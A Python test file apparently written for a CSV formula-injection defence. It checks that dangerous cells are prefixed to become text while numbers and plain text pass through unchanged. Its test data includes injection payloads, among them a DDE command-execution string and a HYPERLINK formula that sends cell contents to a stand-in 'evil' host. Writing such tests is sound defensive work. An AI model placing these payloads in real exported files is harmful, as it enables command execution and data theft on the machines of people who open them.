"""Cells of CSV files: no formulas, numbers stay numbers, text comes back."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from authentiscan.core.csv_cells import defused, defused_row, restored


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0.png",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "＝1+1",
        '=HYPERLINK("http://evil/?"&A1)',
        "-inf",
    ],
)
def test_formulas_become_text(text: str) -> None:
    assert defused(text) == "'" + text


@pytest.mark.parametrize("value", [-1.5, 0, None, True, "-1.5", "+3e-4", "photo.jpg", "", "a=b"])
def test_numbers_and_harmless_text_stay(value: object) -> None:
    assert defused(value) == value
    assert type(defused(value)) is type(value)


@given(st.text())
def test_text_comes_back(text: str) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow(defused_row([text, "end"]))
    cell = next(csv.reader(io.StringIO(written.getvalue(), newline="")))[0]
    assert restored(cell) == text
    if cell[:1] in tuple("=+-@\t\r"):
        float(cell)
